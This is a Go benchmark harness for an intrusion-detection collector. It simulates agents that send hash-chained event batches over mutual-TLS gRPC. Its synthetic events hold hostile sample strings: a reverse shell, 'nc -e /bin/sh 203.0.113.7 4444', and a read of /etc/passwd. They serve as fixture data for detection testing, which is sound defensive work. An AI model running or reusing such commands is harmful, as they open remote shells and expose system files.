package main

import (
	"context"
	"crypto/tls"
	"crypto/x509"
	"encoding/hex"
	"encoding/json"
	"errors"
	"fmt"
	"io"
	"os"
	"sync"
	"sync/atomic"
	"time"

	"google.golang.org/grpc"
	"google.golang.org/grpc/credentials"
	"google.golang.org/grpc/keepalive"
	"google.golang.org/protobuf/types/known/timestamppb"

	"github.com/tripwire-project/tripwire/collector/pki"
	"github.com/tripwire-project/tripwire/proto/batch"
	"github.com/tripwire-project/tripwire/proto/chain"
	tripwirev1 "github.com/tripwire-project/tripwire/proto/tripwire/v1"
)

// simAgent is one simulated agent: its own host certificate, its own hash chain made in
// memory (payloads as the agent writes them: encoding/json of chain.Payload, seq first),
// and one IngestService stream at a time, run with agent/transport's discipline: register
// with the chain head, send Arrow batches from the collector's head within a window of
// unacked entries, move on with each Ack, send again from ResendFrom, heartbeat every
// 5 s, and reconnect after any error, resuming from what the collector holds.
//
// Entries are kept from the last acked seq to the head (what a real agent resends from
// its chain on disk); of older ones only the hash, to answer the collector's chain-hash
// probes.
type simAgent struct {
	name      string
	addr      string
	tls       *tls.Config
	batchSize int
	window    uint64
	// noticeEvery makes every n-th entry an agent notice rather than an event (0: none).
	noticeEvery uint64

	mu        sync.Mutex
	unbounded bool          // ReadFrom makes entries on demand (throughput)
	entries   []batch.Entry // seqs base..head: not yet acked
	base      uint64
	head      uint64
	hashes    [][32]byte // hash of seq i+1
	acked     uint64
	appended  chan struct{}
	sent      uint64 // highest seq sent at least once
	onSend    func(hostID string, seq uint64, at time.Time)

	hostID     atomic.Value // string, from Registered
	reconnects atomic.Uint64
	lastErr    atomic.Value // string
}

func newSimAgent(name, addr string, cert pki.HostCert, batchSize int, window uint64, noticeEvery uint64) (*simAgent, error) {
	tc, err := clientTLS(cert)
	if err != nil {
		return nil, err
	}
	return &simAgent{
		name: name, addr: addr, tls: tc, batchSize: batchSize, window: window, noticeEvery: noticeEvery,
		base: 1, appended: make(chan struct{}, 1),
	}, nil
}

// clientTLS is the agent's side of mutual TLS, as agent/transport builds it: TLS 1.3,
// the collector CA as the only root, the host certificate as the client's.
func clientTLS(cert pki.HostCert) (*tls.Config, error) {
	pair, err := tls.LoadX509KeyPair(cert.CertFile, cert.KeyFile)
	if err != nil {
		return nil, fmt.Errorf("loading %s: %w", cert.CertFile, err)
	}
	caPEM, err := os.ReadFile(cert.CAFile)
	if err != nil {
		return nil, err
	}
	roots := x509.NewCertPool()
	if !roots.AppendCertsFromPEM(caPEM) {
		return nil, fmt.Errorf("%s: no CA certificate", cert.CAFile)
	}
	return &tls.Config{MinVersion: tls.VersionTLS13, RootCAs: roots, ServerName: "localhost", Certificates: []tls.Certificate{pair}}, nil
}

// ackedSeq is the highest seq the collector acked.
func (a *simAgent) ackedSeq() uint64 {
	a.mu.Lock()
	defer a.mu.Unlock()
	return a.acked
}

// headSeq is the chain's head.
func (a *simAgent) headSeq() uint64 {
	a.mu.Lock()
	defer a.mu.Unlock()
	return a.head
}

// setUnbounded switches between making entries as fast as they are shipped and
// appending only what appendEvent adds.
func (a *simAgent) setUnbounded(on bool) {
	a.mu.Lock()
	a.unbounded = on
	a.mu.Unlock()
	a.wake()
}

func (a *simAgent) wake() {
	select {
	case a.appended <- struct{}{}:
	default:
	}
}

// appendEvent appends one event entry now and wakes the sender.
func (a *simAgent) appendEvent() {
	a.mu.Lock()
	a.appendLocked(time.Now())
	a.mu.Unlock()
	a.wake()
}

// appendLocked makes entry head+1 at t.
func (a *simAgent) appendLocked(t time.Time) {
	seq := a.head + 1
	prev := chain.GenesisPrev
	if len(a.entries) > 0 {
		prev = a.entries[len(a.entries)-1].Hash
	} else if seq > 1 {
		prev = hex.EncodeToString(a.hashes[seq-2][:])
	}
	e := makeEntry(seq, t, prev, a.noticeEvery > 0 && seq%a.noticeEvery == 0)
	var h [32]byte
	hex.Decode(h[:], []byte(e.Hash))
	a.hashes = append(a.hashes, h)
	a.entries = append(a.entries, e)
	a.head = seq
}

// readFrom returns up to max entries from seq, making them first when unbounded.
func (a *simAgent) readFrom(seq uint64, max int) []batch.Entry {
	a.mu.Lock()
	defer a.mu.Unlock()
	if a.unbounded {
		now := time.Now().UTC()
		for a.head < seq+uint64(max)-1 {
			a.appendLocked(now)
		}
	}
	if seq < a.base || seq > a.head {
		return nil
	}
	from := seq - a.base
	to := min(uint64(len(a.entries)), from+uint64(max))
	return a.entries[from:to:to]
}

// setAcked drops the entries up to seq.
func (a *simAgent) setAcked(seq uint64) {
	a.mu.Lock()
	defer a.mu.Unlock()
	if seq <= a.acked || seq > a.head {
		return
	}
	a.acked = seq
	drop := seq + 1 - a.base
	a.entries = a.entries[drop:]
	a.base = seq + 1
}

// hashAt answers a chain-hash probe: "" for an entry the chain does not hold.
func (a *simAgent) hashAt(seq uint64) string {
	a.mu.Lock()
	defer a.mu.Unlock()
	if seq == 0 || seq > a.head {
		return ""
	}
	return hex.EncodeToString(a.hashes[seq-1][:])
}

// run keeps a session open until ctx ends, reconnecting after 100 ms to 2 s.
func (a *simAgent) run(ctx context.Context) error {
	conn, err := grpc.NewClient(a.addr,
		grpc.WithTransportCredentials(credentials.NewTLS(a.tls)),
		grpc.WithKeepaliveParams(keepalive.ClientParameters{Time: 10 * time.Second, Timeout: 5 * time.Second, PermitWithoutStream: true}),
	)
	if err != nil {
		return fmt.Errorf("agent %s: %w", a.name, err)
	}
	defer conn.Close()
	backoff := 100 * time.Millisecond
	for {
		err := a.session(ctx, tripwirev1.NewIngestServiceClient(conn))
		if ctx.Err() != nil {
			return nil
		}
		a.reconnects.Add(1)
		a.lastErr.Store(err.Error())
		select {
		case <-ctx.Done():
			return nil
		case <-time.After(backoff):
		}
		backoff = min(2*backoff, 2*time.Second)
	}
}

func (a *simAgent) session(ctx context.Context, client tripwirev1.IngestServiceClient) error {
	ctx, cancel := context.WithCancel(ctx)
	defer cancel()
	stream, err := client.Stream(ctx)
	if err != nil {
		return fmt.Errorf("opening stream: %w", err)
	}
	head := a.headSeq()
	if err := stream.Send(&tripwirev1.StreamRequest{Msg: &tripwirev1.StreamRequest_Register{Register: &tripwirev1.Register{
		ProtocolVersion: tripwirev1.ProtocolVersion, AgentVersion: "bench",
		Host: &tripwirev1.HostFacts{Hostname: a.name, Os: "linux", Arch: "amd64", Kernel: "bench"},
		Head: &tripwirev1.ChainHead{Seq: head, Hash: a.hashAt(head)},
	}}}); err != nil {
		return fmt.Errorf("sending registration: %w", err)
	}
	resp, err := stream.Recv()
	if err != nil {
		return fmt.Errorf("registering: %w", err)
	}
	reg := resp.GetRegistered()
	if reg == nil {
		return errors.New("registering: no Registered")
	}
	a.hostID.Store(reg.GetHostId())
	a.setAcked(min(reg.GetAckedSeq(), head))
	var cursor atomic.Uint64
	cursor.Store(min(reg.GetAckedSeq(), head) + 1)
	out := &streamSender{stream: stream}

	errc := make(chan error, 1)
	go func() {
		for {
			resp, err := stream.Recv()
			if err != nil {
				if errors.Is(err, io.EOF) {
					err = errors.New("collector closed the stream")
				}
				errc <- err
				cancel()
				return
			}
			switch m := resp.Msg.(type) {
			case *tripwirev1.StreamResponse_Ack:
				a.setAcked(m.Ack.GetSeq())
				a.wake()
			case *tripwirev1.StreamResponse_Command:
				if rf := m.Command.GetResendFrom(); rf != nil && rf.GetSeq() > 0 {
					cursor.Store(rf.GetSeq())
					a.wake()
				}
				if probe := m.Command.GetChainHash(); probe != nil {
					// Not from this goroutine: the sender may be blocked in Send until
					// an ack this goroutine must read.
					go out.send(&tripwirev1.StreamRequest{Msg: &tripwirev1.StreamRequest_ChainHash{
						ChainHash: &tripwirev1.ChainHash{Seq: probe.GetSeq(), Hash: a.hashAt(probe.GetSeq())},
					}})
				}
			}
		}
	}()
	err = a.sendLoop(ctx, out, &cursor)
	cancel()
	select {
	case rerr := <-errc:
		return rerr
	default:
	}
	return err
}

// streamSender serialises the sends of one stream: batches and heartbeats from the send
// loop, chain-hash answers from the receiver.
type streamSender struct {
	mu     sync.Mutex
	stream tripwirev1.IngestService_StreamClient
}

func (s *streamSender) send(req *tripwirev1.StreamRequest) error {
	s.mu.Lock()
	defer s.mu.Unlock()
	return s.stream.Send(req)
}

func (a *simAgent) sendLoop(ctx context.Context, out *streamSender, cursor *atomic.Uint64) error {
	heartbeat := time.NewTicker(5 * time.Second)
	defer heartbeat.Stop()
	for {
		for {
			next := cursor.Load()
			acked := a.ackedSeq()
			if next > acked && next-1-acked >= a.window {
				break // wait for acks
			}
			entries := a.readFrom(next, a.batchSize)
			if len(entries) == 0 {
				break
			}
			data, err := batch.Encode(entries)
			if err != nil {
				return err
			}
			last := entries[len(entries)-1].Seq
			a.noteSent(entries)
			if err := out.send(&tripwirev1.StreamRequest{Msg: &tripwirev1.StreamRequest_Batch{Batch: &tripwirev1.EventBatch{
				ArrowIpc: data, FirstSeq: entries[0].Seq, LastSeq: last,
			}}}); err != nil {
				return fmt.Errorf("sending batch %d..%d: %w", entries[0].Seq, last, err)
			}
			cursor.CompareAndSwap(next, last+1)
		}
		select {
		case <-ctx.Done():
			return ctx.Err()
		case <-a.appended:
		case <-heartbeat.C:
			seq := a.headSeq()
			if err := out.send(&tripwirev1.StreamRequest{Msg: &tripwirev1.StreamRequest_Heartbeat{Heartbeat: &tripwirev1.Heartbeat{
				Time: timestamppb.Now(), Head: &tripwirev1.ChainHead{Seq: seq, Hash: a.hashAt(seq)}, QueueDepth: seq - a.ackedSeq(),
			}}}); err != nil {
				return fmt.Errorf("sending heartbeat: %w", err)
			}
		}
	}
}

// noteSent reports the first send of each event entry to onSend (the latency run).
func (a *simAgent) noteSent(entries []batch.Entry) {
	a.mu.Lock()
	fn := a.onSend
	from := a.sent
	a.sent = max(a.sent, entries[len(entries)-1].Seq)
	a.mu.Unlock()
	if fn == nil {
		return
	}
	id, _ := a.hostID.Load().(string)
	now := time.Now()
	for _, e := range entries {
		if e.Seq > from && e.Kind == string(chain.KindEvent) {
			fn(id, e.Seq, now)
		}
	}
}

var (
	types    = [...]string{chain.TypeFile, chain.TypeNetwork, chain.TypeProcess}
	sevs     = [...]string{chain.SeverityInfo, chain.SeverityWarn, chain.SeverityCritical}
	benchUID = int64(1000)
)

// makeEntry makes one chain entry linked to prev: an event like the agent records (a
// ~400-byte payload), or an agent notice.
func makeEntry(seq uint64, t time.Time, prev string, notice bool) batch.Entry {
	t = t.UTC().Round(0)
	p := chain.Payload{Seq: seq, Time: t, Kind: chain.KindEvent}
	if notice {
		p.Kind = chain.KindAgent
		p.Notice = &chain.Notice{What: "rules_applied", Message: "central rules applied: version 5f0c2d9e"}
	} else {
		i := int(seq % 3)
		ev := &chain.Event{Type: types[i], Rule: fmt.Sprintf("rule-%d", seq%7), Severity: sevs[(seq/3)%3], Source: "fanotify",
			PID: int32(1000 + seq%30000), PPID: 1, UID: &benchUID, User: "deploy", Exe: "/usr/bin/cat"}
		switch ev.Type {
		case chain.TypeFile:
			ev.Path, ev.Op, ev.Count, ev.Cmdline = "/etc/passwd", "read", 1, "cat /etc/passwd"
		case chain.TypeNetwork:
			ev.Source, ev.Protocol, ev.Direction, ev.Mode = "sockdiag", "tcp", "inbound", "decoy"
			ev.SrcIP, ev.SrcPort, ev.DstIP, ev.DstPort = "203.0.113.7", uint16(40000+seq%20000), "10.0.0.5", 2222
			ev.Exe, ev.Cmdline = "", ""
		case chain.TypeProcess:
			ev.Source, ev.Exe, ev.Cmdline, ev.ParentExe, ev.Cwd = "ebpf", "/usr/bin/nc", "nc -e /bin/sh 203.0.113.7 4444", "/bin/bash", "/tmp"
		}
		p.Event = ev
	}
	text, err := json.Marshal(p)
	if err != nil {
		panic(fmt.Sprintf("encoding a payload: %v", err)) // a fixed struct: cannot fail
	}
	e := batch.Entry{Seq: seq, Time: t, Kind: string(p.Kind), PrevHash: prev, Payload: text}
	if p.Event != nil {
		e.Type, e.Rule, e.Severity = p.Event.Type, p.Event.Rule, p.Event.Severity
	}
	e.Hash = chain.Hash(prev, text)
	return e
}
